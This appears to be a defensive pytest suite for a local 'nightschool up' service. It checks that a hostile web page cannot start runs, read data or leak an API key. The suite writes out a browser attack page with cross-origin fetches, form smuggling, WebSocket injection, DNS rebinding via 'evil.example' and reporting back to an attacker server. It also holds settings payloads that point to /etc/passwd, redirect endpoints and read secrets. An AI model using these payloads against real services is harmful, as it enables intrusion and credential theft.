@@ -1,0 +1,275 @@
+"""Web pages against a running `nightschool up`: nothing runs, nothing leaks. Chromium opens what an attacker would serve.
+
+The attacker here knows more than one would: the server's port, the deployments' ids, the folder of the workspace.
+"""
+
+import base64
+import contextlib
+import http.client
+import json
+import stat
+import threading
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from string import Template
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+import yaml
+
+from flows.service.deployed import check_settings
+from flows.service.prefect_server import login_file, read_login
+from storage.errors import RecipeError
+from storage.workspace import Workspace
+from tests.browser import visiting
+from tests.flows.service.running import Up, serving_up, wait_for
+
+SECRET = "sk-nobody-may-see-this"
+
+PAGE = Template("""<!doctype html><meta charset="utf-8"><title>a page</title><form id="f" method="post" target="i"
+ enctype="text/plain" action="$api/deployments/$deployment/create_flow_run"><input name='$form' value='"}'></form>
+<iframe name="i"></iframe><script>
+const api = "$api", seen = [];
+const body = JSON.stringify($run);
+async function attempt(name, make) {
+  try { const reply = await make(); seen.push([name, reply.status ?? 0, (await reply.text?.() ?? "").slice(0, 300)]); }
+  catch (error) { seen.push([name, "refused", String(error)]); }
+}
+function socket(name, path, protocol) {
+  return new Promise(done => {
+    const ws = new WebSocket(api.replace("http", "ws") + path, protocol ? [protocol] : []);
+    const end = what => { seen.push([name, what, ""]); done(); };
+    ws.onopen = () => { ws.send(JSON.stringify($event)); setTimeout(() => end("open"), 500); };
+    ws.onerror = () => end("refused"); setTimeout(() => end("silent"), 5000);
+  });
+}
+(async () => {
+  const create = `$${api}/deployments/$deployment/create_flow_run`;
+  for (const type of ["application/json", "text/plain", "application/x-www-form-urlencoded"])
+    for (const mode of ["cors", "no-cors"])
+      for (const credentials of ["omit", "include"])
+        await attempt(`create $${type} $${mode} $${credentials}`,
+          () => fetch(create, {method: "POST", mode, credentials, headers: {"Content-Type": type}, body}));
+  for (const path of ["/flow_runs/filter", "/deployments/filter", "/block_documents/filter", "/logs/filter", "/admin/settings"])
+    await attempt(`read $${path}`, () => fetch(api + path, path.startsWith("/admin") ? {} : {method: "POST", body: "{}",
+      headers: {"Content-Type": "application/json"}}));
+  await attempt("event", () => fetch(api + "/events", {method: "POST", mode: "no-cors", body: JSON.stringify([$event])}));
+  await socket("socket in", "/events/in"); await socket("socket in, prefect", "/events/in", "prefect");
+  await socket("socket logs", "/logs/out");
+  document.getElementById("f").submit();
+  await new Promise(done => setTimeout(done, 1500));
+  navigator.sendBeacon(create, body);
+  await new Promise(done => setTimeout(done, 500));
+  await fetch("$home/seen", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
+})();
+</script>""")
+
+
+@dataclass
+class Attacker:
+    """A web server of the attacker's: serves the page, keeps whatever is sent to it."""
+
+    page: str = ""
+    requests: list[tuple[str, dict[str, str], str]] = field(default_factory=list)
+    port: int = 0
+
+    def report(self) -> list[list[Any]]:
+        sent = [body for path, _, body in self.requests if path == "/seen"]
+        return json.loads(sent[0]) if sent else []
+
+
+@pytest.fixture
+def attacker() -> Iterator[Attacker]:
+    ours = Attacker()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self._answer(ours.page)
+
+        def do_POST(self) -> None:
+            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
+            ours.requests.append((self.path, dict(self.headers), body))
+            self._answer("{}")
+
+        def _answer(self, text: str) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.end_headers()
+            self.wfile.write(text.encode())
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    ours.port = server.server_address[1]
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield ours
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def hostile(up: Up, attacker: Attacker, api: str, marker: Path) -> str:
+    """The page: every way of asking that a browser has."""
+    run = {
+        "parameters": {
+            "settings": [
+                f"models.teacher.endpoint=http://127.0.0.1:{attacker.port}", "models.teacher.engine=vllm",
+                "models.teacher.api_key_env=NIGHTSCHOOL_TEST_SECRET", "prompts.solve=/etc/passwd",
+            ]
+        },
+        "job_variables": {"command": f"touch {marker}"},
+        "state": {"type": "SCHEDULED"},
+    }  # fmt: skip
+    event = {
+        "occurred": "2026-01-01T00:00:00Z", "event": "nightschool.release.created", "id": "0" * 8 + "-0000-4000-8000-" + "1" * 12,
+        "resource": {"prefect.resource.id": "lake.dataset.attack"}, "payload": {},
+    }  # fmt: skip
+    return PAGE.substitute(
+        api=api, deployment=up.deployment("train"), run=json.dumps(run), event=json.dumps(event),
+        home=f"http://127.0.0.1:{attacker.port}", form=json.dumps(run)[:-1] + ', "x": "',
+    )  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def up(tmp_path_factory) -> Iterator[Up]:
+    with serving_up(tmp_path_factory.mktemp("up"), NIGHTSCHOOL_TEST_SECRET=SECRET) as service:
+        yield service
+
+
+@pytest.fixture
+def quiet(up) -> Iterator[dict[str, int]]:
+    """The service with its schedule paused: a run that appears now was made by the attack."""
+    up.ask(f"deployments/{up.deployment('nightly')}/pause_deployment")
+    wait_for(lambda: all(run["state_type"] not in ("PENDING", "RUNNING") for run in up.ask("flow_runs/filter")))
+    yield {"runs": count(up), "events": attack_events(up)}
+
+
+def count(up: Up) -> int:
+    return int(up.ask("flow_runs/count", {"flow_runs": {"state": {"type": {"not_any_": ["SCHEDULED"]}}}})) + sum(
+        run["auto_scheduled"] is False for run in up.ask("flow_runs/filter")
+    )
+
+
+def attack_events(up: Up) -> int:
+    found = up.ask("events/filter", {"filter": {"resource": {"id": ["lake.dataset.attack"]}}})
+    return int(found["total"])
+
+
+@pytest.mark.parametrize("how", ["another origin", "a name that leads here"])
+def test_a_web_page_starts_nothing_and_learns_nothing(up, quiet, attacker, tmp_path, how):
+    url = urlsplit(up.status()["url"])
+    marker = tmp_path / "ran"
+    flags: tuple[str, ...] = ()
+    api = f"http://127.0.0.1:{url.port}/api"
+    if how == "a name that leads here":  # DNS rebinding: to the browser, page and server are one origin
+        flags = ("--host-resolver-rules=MAP evil.example 127.0.0.1",)
+        api = f"http://evil.example:{url.port}/api"
+    attacker.page = hostile(up, attacker, api, marker)
+    with visiting(f"http://127.0.0.1:{attacker.port}/", *flags):
+        report = wait_for(attacker.report, 90)
+    assert len(report) >= 20, "the page tried everything"
+    for name, outcome, text in report:
+        assert outcome in ("refused", 0, "silent"), (name, outcome, text)  # 0: an answer that the page may not look at
+        assert SECRET not in text and "nightly" not in text
+    time.sleep(8)  # a worker asks for work every second
+    assert not marker.exists()
+    assert {"runs": count(up), "events": attack_events(up)} == quiet
+    assert [path for path, _, _ in attacker.requests if path != "/seen"] == [], "no model call reached the attacker"
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {},
+        {"Host": "evil.example"},
+        {"Host": "evil.example", "Authorization": "right"},
+        {"Host": "127.0.0.1.evil.example", "Authorization": "right"},
+        {"Origin": "http://evil.example", "Authorization": "right"},
+        {"Origin": "null", "Authorization": "right"},
+        {"Origin": "http://localhost", "Authorization": "right"},
+        {"Authorization": "wrong"},
+        {"Authorization": "Bearer x"},
+    ],
+    ids=str,
+)
+@pytest.mark.parametrize("path", ["/api/deployments/filter", "/api/flow_runs/filter", "/api/health/../admin/settings"])
+def test_a_raw_client_needs_the_login_this_machines_name_and_no_foreign_page(up, headers, path):
+    login = read_login(Workspace(up.cli.workspace))
+    assert login is not None
+    pairs = {"right": login, "wrong": "nightschool:guess"}
+    given = dict(headers)
+    if given.get("Authorization") in pairs:
+        given["Authorization"] = "Basic " + base64.b64encode(pairs[given["Authorization"]].encode()).decode()
+    url = urlsplit(up.status()["url"])
+    connection = http.client.HTTPConnection("127.0.0.1", url.port, timeout=20)
+    with contextlib.closing(connection):
+        connection.request("POST", path, body="{}", headers={"Content-Type": "application/json", **given})
+        reply = connection.getresponse()
+        text = reply.read().decode()
+        assert reply.status in (400, 401, 403), (reply.status, text[:200])
+        assert "nightly" not in text and login not in text
+        assert reply.getheader("Access-Control-Allow-Origin") in (None, f"http://127.0.0.1:{url.port}")
+
+
+def test_the_login_is_new_at_each_start_and_readable_by_its_owner_alone(up):
+    workspace = Workspace(up.cli.workspace)
+    assert stat.S_IMODE(login_file(workspace).stat().st_mode) == 0o600
+    login = str(read_login(workspace))
+    assert len(login) > 40
+    for file in up.cli.folder.rglob("*"):
+        if file.is_file() and file != login_file(workspace) and file.stat().st_size < 50_000_000:
+            assert login.partition(":")[2].encode() not in file.read_bytes(), f"{file} holds the login"
+    told = up.cli("up", "--status", "--json") + up.cli("doctor", "--json")
+    assert login.partition(":")[2] not in told
+
+
+@pytest.mark.parametrize(
+    ("setting", "key"),
+    [
+        ("models.teacher.api_key_env=NIGHTSCHOOL_TEST_SECRET", "models.teacher.api_key_env"),
+        ("models.teacher.endpoint=http://127.0.0.1:9", "models.teacher.endpoint"),
+        ('models.teacher={"engine": "vllm", "endpoint": "http://127.0.0.1:9", "name": "x", "revision": "1"}', "models.teacher"),
+        ("models.other.engine=solver", "models.other.engine"),
+        ("prompts.solve=/etc/passwd", "prompts.solve"),
+        ("prompts.solve=../../etc/passwd", "prompts.solve"),
+        ("prompts.solve=${x}/passwd", "prompts.solve"),
+        ("train.rl.rollout_endpoint=http://127.0.0.1:9", "train.rl.rollout_endpoint"),
+        ("train.sft.accelerate=/tmp/mine.yaml", "train.sft.accelerate"),
+    ],
+)  # fmt: skip
+def test_a_deployments_settings_change_no_model_key_command_or_file(up, tmp_path, setting, key):
+    """Refused when it is deployed, and by the flow itself when a run is started with it."""
+    said = up.cli("up", up.recipe, "--set", setting, "--port", "0", code=1)
+    assert key in said and ("may not change it" in said or "runs already" in said)
+    with pytest.raises(RecipeError, match="may not change it"):
+        check_settings(up.recipe, [setting])
+
+
+def test_a_run_with_such_settings_fails_before_it_reads_or_asks_anything(up, quiet, attacker):
+    """With the login, as a colleague who may start runs: the flow refuses, and no call leaves."""
+    settings = [f"models.teacher.endpoint=http://127.0.0.1:{attacker.port}", "models.teacher.api_key_env=HOME"]
+    made = up.ask(
+        f"deployments/{up.deployment('train')}/create_flow_run",
+        {"parameters": {"settings": settings}, "job_variables": {"command": "touch ran", "env": {"X": "1"}},
+         "state": {"type": "SCHEDULED"}},
+    )  # fmt: skip
+
+    def ended() -> dict[str, Any] | None:
+        run = up.ask(f"flow_runs/{made['id']}", method="GET")
+        return run if run["state_type"] in ("FAILED", "COMPLETED", "CRASHED", "CANCELLED") else None
+
+    run = wait_for(ended)
+    assert run["state_type"] == "FAILED" and "may not change it" in run["state"]["message"]
+    assert attacker.requests == []
+
+
+def test_numbers_may_be_given_and_the_recipes_own_folder_too(tmp_path):
+    recipe = tmp_path / "r.yaml"
+    recipe.write_text(yaml.safe_dump({"name": "x", "models": {"teacher": {"engine": "solver"}}, "prompts": {}}))
+    check_settings(recipe, ["problems.limit=5", "models.teacher.concurrency=4", "prompts.solve=mine/solve.jinja"])
